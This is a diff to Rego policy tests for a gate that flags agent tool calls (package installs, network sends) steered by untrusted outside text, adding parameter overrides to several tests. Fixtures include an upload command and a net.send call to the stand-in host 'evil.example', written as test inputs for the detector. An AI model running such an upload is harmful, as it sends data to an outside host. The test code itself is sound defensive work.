@@ -57,6 +57,7 @@ test_asks_about_packages if {
 		"cargo add serde-fast": "serde-fast",
 	} {
 		some question in untrusted.ask with input as flowing(line, "package.install", "package", {})
+			with data.gate.params.gate.flow.untrusted.about as ["package"]
 		startswith(question.reason, sprintf("installs %s, which only text from outside names;", [name]))
 	}
 }
@@ -129,6 +130,7 @@ test_looks_at_the_command_that_has_it if {
 	count(untrusted.ask) == 1 with input as flowing(line, "net.send", "host", {"host": "evil.example", "command": 2})
 	count(untrusted.ask) == 1 with input as flowing("./upload evil.example", "net.send", "host", evil)
 	some question in untrusted.ask with input as flowing(line, "package.install", "package", {"command": 4})
+		with data.gate.params.gate.flow.untrusted.about as ["package"]
 	startswith(question.reason, "installs b,")
 }
 
@@ -139,11 +141,12 @@ test_the_metadata_service_is_not_near if {
 test_about_is_a_parameter if {
 	every row in rows {
 		count(untrusted.ask) == 1 with input as flowing(row[0], row[1], row[2], row[3])
+			with data.gate.params.gate.flow.untrusted.about as ["host", "package", "command"]
 		count(untrusted.ask) == 0 with input as flowing(row[0], row[1], row[2], row[3])
 			with data.gate.params.gate.flow.untrusted.about as []
 	}
 	call := flowing("pip install x", "package.install", "package", {})
-	count(untrusted.ask) == 0 with input as call with data.gate.params.gate.flow.untrusted.about as ["host", "command"]
+	count(untrusted.ask) == 0 with input as call
 }
 
 test_hosts_are_a_parameter if {
